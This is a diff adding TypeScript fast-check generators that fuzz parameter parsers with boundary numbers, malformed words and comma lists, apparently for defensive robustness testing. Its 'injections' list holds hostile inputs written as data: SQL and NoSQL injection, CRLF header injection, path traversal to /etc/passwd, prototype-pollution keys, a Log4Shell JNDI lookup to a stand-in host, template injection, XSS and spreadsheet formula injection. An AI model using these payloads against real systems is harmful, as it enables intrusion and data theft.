@@ -1,0 +1,145 @@
+import * as fc from 'fast-check';
+
+/** Values that provoke readers of parameters. All are well-formed text; how they are encoded is decided elsewhere. */
+
+/** Text that means something to parsers, shells, databases, templates and JavaScript's objects. */
+const injections = fc.constantFrom(
+  "' OR 1=1--",
+  '{"$gt":""}',
+  '*',
+  '\r\nX-Injected: 1',
+  '\u0000',
+  '../../etc/passwd',
+  '..%2f..%2f',
+  '%00',
+  '__proto__',
+  'constructor',
+  'toString',
+  'hasOwnProperty',
+  '${jndi:ldap://x.test/a}',
+  '{{7*7}}',
+  '<script>alert(1)</script>',
+  '=cmd|1',
+  '\u202eabc',
+  '\ufeff',
+  '\u0660\u0661',
+  'e\u0301',
+  '\u{1f4ee}\u{1f4ee}',
+  'null',
+  'undefined',
+  'true',
+  '[object Object]',
+  '-',
+  ' ',
+  '\t',
+  'a,b',
+  ',',
+  ',,',
+);
+
+const characters = fc.string({ unit: 'grapheme', minLength: 1, maxLength: 12 });
+const long = fc.integer({ min: 110, max: 130 }).map((length) => 'x'.repeat(length));
+const huge = fc.constantFrom('x'.repeat(3_000), '9'.repeat(400), `${'1,'.repeat(600)}1`);
+
+/** Text of any kind. */
+export const anyText = fc.oneof(
+  { weight: 4, arbitrary: characters },
+  { weight: 4, arbitrary: injections },
+  { weight: 1, arbitrary: long },
+  { weight: 1, arbitrary: huge },
+);
+
+const from = (alphabet: string, maxLength: number) =>
+  fc.string({ unit: fc.constantFrom(...alphabet), minLength: 1, maxLength });
+
+/** Text that readers of numbers may take for one, rightly or not. */
+const likeNumbers = fc.oneof(
+  fc.integer().map(String),
+  fc.double().map(String),
+  from('0123456789+-.eE ,x\n', 8),
+  fc.constantFrom(
+    'NaN',
+    'Infinity',
+    '-Infinity',
+    '1e400',
+    '-1e400',
+    '0x10',
+    '0b1',
+    '1_000',
+    '1,5',
+    '+5',
+    ' 5',
+  ),
+  fc.constantFrom('5 ', '5\n', '\u0665', '\uff15', '5.', '.5', '1e2', '1E+1', '1e-7', '--1', '1n', '٣٠٠٠'),
+  fc.constantFrom(
+    '2147483647',
+    '2147483648',
+    '-2147483649',
+    '9007199254740993',
+    '9'.repeat(19),
+    '0'.repeat(40),
+  ),
+);
+
+const mostly = (good: fc.Arbitrary<string>, provoking: fc.Arbitrary<string>) =>
+  fc.oneof(
+    { weight: 8, arbitrary: good },
+    { weight: 2, arbitrary: provoking },
+    { weight: 1, arbitrary: anyText },
+  );
+
+/** Mostly integers of the range; its bounds and what lies just beyond them come often. */
+export const integers = (min: number, max: number, ...often: readonly string[]) =>
+  mostly(
+    fc.oneof(
+      fc.constantFrom(String(min), String(max), ...often),
+      fc.integer({ min, max }).map(String),
+      fc.integer({ min, max }).map((value) => `00${value}`),
+    ),
+    fc.oneof(fc.constantFrom(String(min - 1), String(max + 1), '-0', `${max}.0`), likeNumbers),
+  );
+
+/** Mostly numbers of the range. */
+export const numbers = (min: number, max: number, often: fc.Arbitrary<string>) =>
+  mostly(
+    fc.oneof(
+      { weight: 6, arbitrary: often },
+      { weight: 1, arbitrary: fc.constantFrom(`${min}`, `${max}`, '0', '-0', '1e1', '1.5E+1') },
+      { weight: 1, arbitrary: fc.double({ min, max, noNaN: true }).map(String) },
+    ),
+    fc.oneof(
+      fc.constantFrom(`${max}.0000001`, `${min}.0000001`, `${max + 1}`, `${min - 1}`, `+${max}`),
+      likeNumbers,
+    ),
+  );
+
+const spoilt = (word: string) =>
+  fc.constantFrom(
+    word.toLowerCase(),
+    ` ${word}`,
+    `${word} `,
+    `${word}\n`,
+    `${word}x`,
+    `${word}\u0000`,
+    word.slice(1),
+  );
+
+/** Mostly one of the words. */
+export const words = (...known: readonly string[]) => {
+  const word = fc.constantFrom(...known);
+  return mostly(word, word.chain(spoilt));
+};
+
+/** Mostly comma lists of the words. */
+export const lists = (...known: readonly string[]) => {
+  const word = fc.constantFrom(...known);
+  return mostly(
+    fc.array(word, { minLength: 1, maxLength: 4 }).map((items) => items.join(',')),
+    fc.oneof(
+      fc
+        .array(fc.oneof(word, word.chain(spoilt), fc.constant('')), { minLength: 1, maxLength: 4 })
+        .map(String),
+      fc.integer({ min: 98, max: 102 }).chain((count) => word.map((one) => Array(count).fill(one).join(','))),
+    ),
+  );
+};
